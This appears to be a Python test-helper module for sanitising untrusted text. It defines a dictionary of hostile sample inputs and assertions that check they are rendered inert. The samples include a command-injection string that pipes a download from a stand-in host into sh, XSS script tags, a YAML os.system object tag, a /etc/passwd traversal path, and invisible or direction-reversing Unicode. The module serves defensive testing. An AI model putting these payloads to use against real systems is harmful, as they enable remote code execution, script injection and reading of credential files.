"""Text that somebody could type, or a server send, to be more than text; and what it must not become."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Mapping
from typing import Any

NASTY: dict[str, str] = {
    "colour": "\x1b[31mred\x1b[0m",
    "terminal link": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "one more line": "fine\r\n2026.11.2 is released",
    "line separators": "fine\u2028outcome: released\u2029x\x85y",
    "turned around": "exe.\u202etxt\u2066hid\u2069den\u061c",
    "invisible": "a\u00adb\U000e0041c",
    "zero width": "a\u200bb\u2060c",
    "byte order mark": "\ufeffa",
    "another direction": "a\u061cb",
    "nul": "a\x00b",
    "lone surrogate": "a\ud800b",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "mention": "<!channel> <@U123> @here @everyone",
    "slack link": "<https://evil.example|Open the run>",
    "markdown": "[click](https://evil.example) ![x](https://evil.example/x.png) # **bold**",
    "template": "{{ conn.azure_westeurope.password }} {% for x in y %}",
    "yaml": 'x"\noutcome: released\n- &a !!python/object:os.system {a: *b} # "',
    "shell": "'; curl https://evil.example | sh #$(id)`id`",
    "path": "../../../etc/passwd%2e%2e",
    "long": "x" * 10_000,
}

_HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_OWN = "\u2060"
"""The joiner that keeps Slack from reading ``@here``."""


def hidden(text: str) -> set[str]:
    """The characters of a text that show nothing or steer what is around them, line ends aside."""
    return {c for c in text if unicodedata.category(c) in _HIDDEN and c not in ("\n", _OWN)}


def assert_visible(text: str) -> None:
    assert hidden(text) == set(), repr(text[:300])


def assert_markdown_is_text(body: str) -> None:
    """Given Markdown with values in it, then no value is a link, an image, code, a heading or HTML."""
    left = re.sub(r"\\[\\`*_{}\[\]()<>#+!|~&-]", "", body).replace("**", "")
    assert not set(left) & set("<>[]`*~"), left
    assert not re.search(r"^\s*(#|\d+[.)]\s|>)", left, re.MULTILINE), left
    assert_visible(body)


def poisoned(value: Any, text: str, keep: frozenset[str]) -> Any:
    """``value`` with every text in it replaced, but for those under the keys of ``keep``."""
    if isinstance(value, Mapping):
        return {key: held if key in keep else poisoned(held, text, keep) for key, held in value.items()}
    if isinstance(value, list):
        return [poisoned(each, text, keep) for each in value]
    return text if isinstance(value, str) else value
